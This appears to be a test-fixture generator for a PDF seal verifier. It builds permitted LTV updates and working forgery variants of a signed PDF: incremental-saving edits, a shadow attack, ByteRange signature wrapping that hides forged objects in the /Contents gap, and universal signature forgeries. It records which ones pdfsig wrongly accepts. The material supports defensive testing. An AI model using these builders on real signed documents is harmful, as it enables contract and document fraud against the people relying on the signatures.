@@ -1,0 +1,344 @@
+// Variants of the sealed PAdES for the seal checks: permitted LTV updates, and the attack classes of
+// the PDF-signature literature (incremental saving, shadow, signature wrapping, universal signature
+// forgery) plus structural faults. Each builder returns the bytes and what a verifier should say.
+import {
+  PDFArray, PDFDict, PDFHexString, PDFName, PDFRef, PDFString, type PDFContext, type PDFDocument, type PDFObject,
+} from "pdf-lib";
+import { createTimestampToken, sealRevocation } from "./cms.js";
+import { latin1Bytes, latin1Text, utf8Bytes } from "./der.js";
+import { buildWorkflowEvidence, type WorkflowEvidence } from "./evidence.js";
+import { appendIncrementalUpdate, loadForUpdate, serializePdfObject, type UpdateObject } from "./incremental.js";
+import { patchSpan, spanAfterKey } from "./pdf-bytes.js";
+import {
+  byteRangeBytes, evidenceAttachments, preparePades, sealPrepared, type PadesLayout, type PreparedPdf,
+} from "./pdf.js";
+import type { TestPki } from "./pki.js";
+import { pdfDate, TIMELINE } from "./timeline.js";
+import { tamperJwtPayload } from "./token.js";
+
+export type Indication = "TOTAL-PASSED" | "TOTAL-FAILED" | "INDETERMINATE";
+
+export interface Expected {
+  indication: Indication;
+  /** Suggested ETSI EN 319 102-1 sub-indication (null when passed). */
+  subIndication: string | null;
+  /** The contract check id that should decide. */
+  check: string;
+  /** PDF variants: does `pdfsig` say "Signature is Valid" for signature #1 (it ignores later revisions)? */
+  pdfsigValid?: boolean;
+}
+
+export interface PdfVariant {
+  name: string;
+  description: string;
+  bytes: Uint8Array;
+  expected: Expected;
+}
+
+/** A genuine sealed PAdES with everything needed to derive variants from it. */
+export interface SealedBase {
+  pki: TestPki;
+  evidence: WorkflowEvidence;
+  layout: PadesLayout;
+  prepared: PreparedPdf;
+  sealed: Uint8Array;
+}
+
+export async function sealedBase(pki: TestPki, evidence?: WorkflowEvidence, layout: Partial<PadesLayout> = {}): Promise<SealedBase> {
+  const e = evidence ?? (await buildWorkflowEvidence({ pki }));
+  const full: PadesLayout = { originals: e.originals.map((o) => o.bytes), attachments: evidenceAttachments(e), ...layout };
+  const prepared = await preparePades(full);
+  return { pki, evidence: e, layout: full, prepared, sealed: sealPrepared(prepared, pki) };
+}
+
+const PASSED: Expected = { indication: "TOTAL-PASSED", subIndication: null, check: "seal-modifications", pdfsigValid: true };
+const modified = (pdfsigValid = true): Expected =>
+  ({ indication: "TOTAL-FAILED", subIndication: "HASH_FAILURE", check: "seal-modifications", pdfsigValid });
+const badSeal = (pdfsigValid = false): Expected =>
+  ({ indication: "TOTAL-FAILED", subIndication: "FORMAT_FAILURE", check: "seal-signature", pdfsigValid });
+const badAttachments: Expected = { indication: "TOTAL-FAILED", subIndication: "FORMAT_FAILURE", check: "attachments", pdfsigValid: true };
+
+// ---- helpers over one loaded revision ---------------------------------------------------------
+
+interface Update {
+  doc: PDFDocument;
+  ctx: PDFContext;
+  objects: UpdateObject[];
+  /** Register a new object and queue it for writing. */
+  add(obj: Parameters<PDFContext["register"]>[0]): PDFRef;
+  /** Queue a changed copy of an existing object under its own number. */
+  replace(ref: PDFRef, obj: Parameters<PDFContext["register"]>[0]): void;
+}
+
+async function beginUpdate(pdf: Uint8Array): Promise<Update> {
+  const doc = await loadForUpdate(pdf);
+  const ctx = doc.context;
+  const objects: UpdateObject[] = [];
+  return {
+    doc, ctx, objects,
+    add(obj) {
+      const ref = ctx.register(obj);
+      objects.push({ num: ref.objectNumber, body: obj });
+      return ref;
+    },
+    replace(ref, obj) {
+      objects.push({ num: ref.objectNumber, gen: ref.generationNumber, body: obj });
+    },
+  };
+}
+
+const catalogRef = (u: Update): PDFRef => u.ctx.trailerInfo.Root as PDFRef;
+const firstPage = (u: Update): { ref: PDFRef; dict: PDFDict } => {
+  const page = u.doc.getPage(0);
+  return { ref: page.ref, dict: page.node };
+};
+const finish = (pdf: Uint8Array, u: Update, xref: "table" | "stream" = "table"): Uint8Array =>
+  appendIncrementalUpdate(pdf, { objects: u.objects, xref }).bytes;
+
+/** A content stream drawing lines with a font resource name the page already has. */
+function textStream(u: Update, page: PDFDict, lines: string[]): PDFRef {
+  const fonts = page.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Font"), PDFDict);
+  const key = fonts.keys()[0]!.asString();
+  const ops = lines.map((l, i) => `BT ${key} ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`).join("\n");
+  return u.add(u.ctx.flateStream(ops));
+}
+
+const FORGED_LINES = ["Lejekontrakt", "", "Udlejer: Sealcheck Test Ejendomme ApS", "Lejer: Karen Test Jensen og Lars Test Nielsen",
+  "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C", "Husleje: 1 kr. pr. maaned", "", "(Testdokument - ikke gyldigt)"];
+
+// ---- permitted: LTV --------------------------------------------------------------------------
+
+/** Add a /DSS (certificates, OCSP responses, CRLs as streams) to the catalog. */
+export async function addDss(pdf: Uint8Array, pki: TestPki, xref: "table" | "stream" = "table"): Promise<Uint8Array> {
+  const u = await beginUpdate(pdf);
+  const rev = sealRevocation(pki);
+  const streams = (list: Uint8Array[]): PDFRef[] => list.map((d) => u.add(u.ctx.flateStream(d)));
+  const dss = u.add(u.ctx.obj({
+    Type: "DSS",
+    Certs: streams([pki.seal.der, pki.sealRoot.der, pki.tsa.der, pki.tsaRoot.der]),
+    OCSPs: streams(rev.ocsps),
+    CRLs: streams(rev.crls),
+  }));
+  const catalog = u.doc.catalog.clone(u.ctx);
+  catalog.set(PDFName.of("DSS"), dss);
+  u.replace(catalogRef(u), catalog);
+  return finish(pdf, u, xref);
+}
+
+/** Add a document timestamp (ETSI.RFC3161, /Type /DocTimeStamp) in a new invisible field. */
+export async function addDocumentTimestamp(pdf: Uint8Array, pki: TestPki, at = new Date("2025-12-09T10:00:00Z")): Promise<Uint8Array> {
+  const u = await beginUpdate(pdf);
+  const sig = u.add(u.ctx.obj({
+    Type: "DocTimeStamp", Filter: "Adobe.PPKLite", SubFilter: "ETSI.RFC3161", M: PDFString.of(pdfDate(at)),
+    ByteRange: [0, 9_999_999_999, 9_999_999_999, 9_999_999_999],
+    Contents: PDFHexString.of("0".repeat(16 * 1024)),
+  }));
+  const page = firstPage(u);
+  const widget = u.add(u.ctx.obj({
+    Type: "Annot", Subtype: "Widget", FT: "Sig", T: PDFString.of("Signature2"), V: sig, F: 132, Rect: [0, 0, 0, 0], P: page.ref,
+  }));
+  const pageCopy = page.dict.clone(u.ctx);
+  const annots = (page.dict.lookup(PDFName.of("Annots"), PDFArray).clone(u.ctx));
+  annots.push(widget);
+  pageCopy.set(PDFName.of("Annots"), annots);
+  u.replace(page.ref, pageCopy);
+  const acroRef = u.doc.catalog.get(PDFName.of("AcroForm")) as PDFRef;
+  const acro = u.doc.catalog.lookup(PDFName.of("AcroForm"), PDFDict).clone(u.ctx);
+  acro.lookup(PDFName.of("Fields"), PDFArray).push(widget);
+  u.replace(acroRef, acro);
+  const { bytes, offsets } = appendIncrementalUpdate(pdf, { objects: u.objects });
+  const sigAt = offsets.get(sig.objectNumber)!;
+  const prepared: PreparedPdf = {
+    bytes, sigObject: sig.objectNumber,
+    byteRange: spanAfterKey(bytes, sigAt, "/ByteRange", "[", "]"),
+    contents: spanAfterKey(bytes, sigAt, "/Contents", "<", ">"),
+  };
+  return sealPrepared(prepared, pki, { cms: (signed) => createTimestampToken({ tsa: pki.tsa, data: signed, genTime: at, serial: 20251209 }) });
+}
+
+// ---- the catalogue of variants ------------------------------------------------------------------
+
+/** Every PDF variant, built from one genuine base (a few seconds). */
+export async function buildPdfVariants(pki: TestPki, base?: SealedBase): Promise<PdfVariant[]> {
+  const b = base ?? (await sealedBase(pki));
+  const out: PdfVariant[] = [];
+  const add = (name: string, description: string, bytes: Uint8Array, expected: Expected): void => {
+    out.push({ name, description, bytes, expected });
+  };
+  const s = b.sealed;
+  const p = b.prepared;
+  const c = p.contents;
+  const len = p.bytes.length;
+
+  // Permitted LTV extensions.
+  add("ltv-dss", "A later revision only adds a /DSS (certificates, OCSP, CRL) to the catalog (classic xref).",
+    await addDss(s, pki), PASSED);
+  add("ltv-dss-xref-stream", "As ltv-dss, the update written with a cross-reference stream.",
+    await addDss(s, pki, "stream"), PASSED);
+  add("ltv-dss-doc-timestamp", "Revision 2 adds a /DSS, revision 3 a document timestamp (ETSI.RFC3161, /DocTimeStamp) in field Signature2.",
+    await addDocumentTimestamp(await addDss(s, pki), pki), PASSED);
+
+  // Incremental saving attacks.
+  for (const xref of ["table", "stream"] as const) {
+    const u = await beginUpdate(s);
+    const page = firstPage(u);
+    const contentRef = page.dict.lookup(PDFName.of("Contents"), PDFArray).get(0) as PDFRef;
+    const forged = u.ctx.lookup(textStream(u, page.dict, FORGED_LINES));
+    u.objects.pop(); // redefine the existing content object instead of adding one
+    u.replace(contentRef, forged!);
+    add(`isa-page-content-replaced${xref === "stream" ? "-xref-stream" : ""}`,
+      `Page 1's content stream object is redefined in a later revision (rent 9.500 → 1 kr.), ${xref === "stream" ? "xref stream" : "classic xref"}.`,
+      finish(s, u, xref), modified());
+  }
+  {
+    const u = await beginUpdate(s);
+    const names = u.doc.catalog.lookup(PDFName.of("Names"), PDFDict).lookup(PDFName.of("EmbeddedFiles"), PDFDict)
+      .lookup(PDFName.of("Names"), PDFArray);
+    const specRef = names.get(1) as PDFRef;
+    const forgedJwt = tamperJwtPayload(b.evidence.padesToken.jwt, (pl) => ({ ...pl, workflow_title: "Forged title" }));
+    const stream = u.add(u.ctx.flateStream(utf8Bytes(forgedJwt), {
+      Type: "EmbeddedFile", Subtype: "application/octet-stream",
+      Params: { ModDate: PDFString.of(pdfDate(TIMELINE.iat)), Size: forgedJwt.length },
+    }));
+    const spec = (u.ctx.lookup(specRef) as PDFDict).clone(u.ctx);
+    spec.set(PDFName.of("EF"), u.ctx.obj({ F: stream }));
+    u.replace(specRef, spec);
+    add("isa-attachment-replaced", "A later revision points workflow_token.jwt's file specification at a new stream (a forged token).",
+      finish(s, u), modified());
+  }
+  {
+    const u = await beginUpdate(s);
+    const treeRef = u.doc.catalog.lookup(PDFName.of("Names"), PDFDict).get(PDFName.of("EmbeddedFiles")) as PDFRef;
+    const tree = (u.ctx.lookup(treeRef) as PDFDict).clone(u.ctx);
+    const extra = utf8Bytes("This attachment was added after sealing.\n");
+    const stream = u.add(u.ctx.flateStream(extra, { Type: "EmbeddedFile", Subtype: "application/octet-stream", Params: { Size: extra.length } }));
+    const spec = u.add(u.ctx.obj({
+      Type: "Filespec", F: PDFString.of("workflow_token_v2.txt"), UF: PDFString.of("workflow_token_v2.txt"),
+      AFRelationship: "Unspecified", EF: { F: stream },
+    }));
+    const arr = tree.lookup(PDFName.of("Names"), PDFArray).clone(u.ctx);
+    arr.push(PDFString.of("workflow_token_v2.txt"));
+    arr.push(spec);
+    tree.set(PDFName.of("Names"), arr);
+    u.replace(treeRef, tree);
+    add("isa-attachment-added", "A later revision adds a fourth attachment (workflow_token_v2.txt) to the name tree.", finish(s, u), modified());
+  }
+  {
+    const u = await beginUpdate(s);
+    const page = firstPage(u);
+    const note = u.add(u.ctx.obj({
+      Type: "Annot", Subtype: "FreeText", Rect: [300, 600, 560, 640], Contents: PDFString.of("Husleje nedsat til 1 kr."),
+      DA: PDFString.of("/Helv 12 Tf 0 g"), F: 4,
+    }));
+    const copy = page.dict.clone(u.ctx);
+    const annots = page.dict.lookup(PDFName.of("Annots"), PDFArray).clone(u.ctx);
+    annots.push(note);
+    copy.set(PDFName.of("Annots"), annots);
+    u.replace(page.ref, copy);
+    add("isa-annotation-added", "A later revision adds a FreeText annotation to page 1.", finish(s, u), modified());
+  }
+  {
+    const u = await beginUpdate(s);
+    const catalog = u.doc.catalog.clone(u.ctx);
+    catalog.set(PDFName.of("OpenAction"), u.ctx.obj({ S: "URI", URI: PDFString.of("https://attacker.invalid/") }));
+    u.replace(catalogRef(u), catalog);
+    add("isa-catalog-changed", "A later revision adds an /OpenAction to the catalog.", finish(s, u), modified());
+  }
+
+  // Shadow attack: hidden content signed in revision 1, switched in by revision 2.
+  {
+    const shadowBase = await sealedBase(pki, b.evidence, { contentsSize: b.layout.contentsSize, hiddenContent: FORGED_LINES });
+    const u = await beginUpdate(shadowBase.sealed);
+    const page = firstPage(u);
+    const copy = page.dict.clone(u.ctx);
+    copy.set(PDFName.of("Contents"), u.ctx.obj([PDFRef.of(shadowBase.prepared.hiddenObject!)]));
+    u.replace(page.ref, copy);
+    add("shadow-hide-and-replace",
+      "Revision 1 carries a signed but unreferenced content stream (rent 1 kr.); revision 2 only changes page 1's /Contents reference to it.",
+      finish(shadowBase.sealed, u), modified());
+  }
+
+  // Signature wrapping: ByteRange values that are not "everything but /Contents", signed as declared.
+  // pdfsig's verdict on each (observed with poppler 22+): it only checks the digest over the declared ranges.
+  const wrap = (name: string, description: string, byteRange: number[], pdfsigValid: boolean): void =>
+    add(name, description, sealPrepared(p, pki, { byteRange }), badSeal(pdfsigValid));
+  wrap("sw-byterange-overlap", "ByteRange ranges overlap (the first covers /Contents).", [0, c.end, c.start, len - c.start], false);
+  wrap("sw-byterange-not-from-zero", "ByteRange starts at offset 1, not 0.", [1, c.start - 1, c.end, len - c.end], true);
+  wrap("sw-byterange-three-ranges", "ByteRange has three ranges (6 numbers) covering the same bytes.", [0, c.start, c.end, 100, c.end + 100, len - c.end - 100], true);
+  wrap("sw-byterange-gap-not-contents", "The unsigned gap is 20 bytes longer than /Contents.", [0, c.start, c.end + 20, len - c.end - 20], true);
+  wrap("sw-byterange-short-of-eof", "The second range stops 100 bytes before the end of the revision.", [0, c.start, c.end, len - c.end - 100], true);
+  add("sw-objects-in-contents-gap", "Signature wrapping: the CMS is shortened and forged objects are hidden in the unsigned /Contents gap, then referenced by an appended xref section.",
+    await objectsInContentsGap(b), badSeal(true));
+
+  // Universal signature forgery: /Contents or /ByteRange unusable.
+  const usf = (name: string, description: string, o: Parameters<typeof sealPrepared>[2]): void =>
+    add(name, description, sealPrepared(p, pki, o), badSeal());
+  usf("usf-contents-empty", "/Contents is an empty string <>.", { cms: { raw: "<>" } });
+  usf("usf-contents-null", "/Contents is null.", { cms: { raw: "null" } });
+  usf("usf-contents-not-hex", "/Contents holds non-hex characters.", { cms: { raw: `<${"zz".repeat(64)}>` } });
+  usf("usf-contents-malformed-der", "/Contents is hex of bytes that are not DER (a truncated SEQUENCE).", { cms: latin1Bytes("\x30\x82\xff\xff\x06\x09") });
+  usf("usf-byterange-null", "/ByteRange is null.", { byteRange: "null" });
+  usf("usf-byterange-odd", "/ByteRange has three numbers.", { byteRange: `[0 ${c.start} ${c.end}]` });
+  usf("usf-byterange-negative", "/ByteRange has negative numbers.", { byteRange: `[0 ${c.start} -${c.end} ${len - c.end}]` });
+  {
+    const bytes = sealPrepared(p, pki);
+    const key = "/ByteRange ".length;
+    patchSpan(bytes, { start: p.byteRange.start - key, end: p.byteRange.end }, "");
+    add("usf-byterange-missing", "The signature dictionary has no /ByteRange (blanked with spaces).", bytes, badSeal());
+  }
+
+  // Structural faults in the sealed revision itself (the seal is cryptographically valid).
+  const structural = async (name: string, description: string, layout: Partial<PadesLayout>, expected = badAttachments): Promise<void> =>
+    add(name, description, (await sealedBase(pki, b.evidence, { contentsSize: b.layout.contentsSize, ...layout })).sealed, expected);
+  const atts = b.layout.attachments;
+  await structural("second-signature-field", "A second (empty) signature field Signature2, under the seal: harmless while DocMDP holds; a warning.", { extraSignatureField: true }, { indication: "TOTAL-PASSED", subIndication: null, check: "seal-signature", pdfsigValid: true });
+  await structural("attachment-duplicated", "workflow_token.jwt appears twice in the name tree.", { attachments: [atts[0]!, atts[0]!, ...atts.slice(1)] });
+  await structural("attachment-missing", "workflow_token.ocsp is missing.", { attachments: [atts[0]!, atts[2]!] });
+  await structural("attachment-bad-flate", "workflow_token.jwt declares /FlateDecode but its data is not zlib.", {
+    attachments: [{ ...atts[0]!, corruptFlate: true }, ...atts.slice(1)],
+  });
+  return out;
+}
+
+/**
+ * Signature wrapping after Mladenov et al.: the signed bytes stay where they are, the CMS is written
+ * short, and the rest of the unsigned /Contents gap holds new objects (a forged page content stream and
+ * page) that an appended xref section makes current. The dangling `>` closes a dummy hex string.
+ */
+async function objectsInContentsGap(b: SealedBase): Promise<Uint8Array> {
+  const sealed = b.sealed;
+  const c = b.prepared.contents;
+  const u = await beginUpdate(sealed);
+  const page = firstPage(u);
+  const stream = u.ctx.lookup(textStream(u, page.dict, FORGED_LINES))!;
+  const streamNum = u.objects.pop()!.num;
+  const pageCopy = page.dict.clone(u.ctx);
+  pageCopy.set(PDFName.of("Contents"), u.ctx.obj([PDFRef.of(streamNum)]));
+  const padNum = streamNum + 1;
+
+  const cmsHex = latin1Text(sealed.subarray(c.start + 1, c.end - 1)).slice(0, 2 * derLength(sealed.subarray(c.start + 1, c.start + 9)));
+  const ser = (x: PDFObject): string => latin1Text(serializePdfObject(x));
+  let gap = `<${cmsHex}>\n>>\nendobj\n`;
+  const offsets = new Map<number, number>();
+  offsets.set(streamNum, c.start + gap.length);
+  gap += `${streamNum} 0 obj\n${ser(stream)}\nendobj\n`;
+  offsets.set(page.ref.objectNumber, c.start + gap.length);
+  gap += `${page.ref.objectNumber} 0 obj\n${ser(pageCopy)}\nendobj\n`;
+  gap += `${padNum} 0 obj\n<< /Pad <`;
+  const width = c.end - c.start;
+  if (gap.length + 1 > width) throw new Error("generator: forged objects do not fit in the /Contents gap");
+  gap = gap + "0".repeat(width - gap.length - 1) + ">";
+  const bytes = new Uint8Array(sealed);
+  bytes.set(latin1Bytes(gap), c.start);
+  // The original sig dictionary's "\n>>\nendobj" now closes the dummy object padNum.
+  return appendIncrementalUpdate(bytes, { objects: [], existing: offsets }).bytes;
+}
+
+/** Total length of the DER element whose first bytes are given as hex text (tag, length). */
+function derLength(hexStart: Uint8Array): number {
+  const h = Buffer.from(latin1Text(hexStart), "hex");
+  const first = h[1]!;
+  if (first < 0x80) return 2 + first;
+  const n = first & 0x7f;
+  return 2 + n + h.subarray(2, 2 + n).reduce((acc, x) => acc * 256 + x, 0);
+}
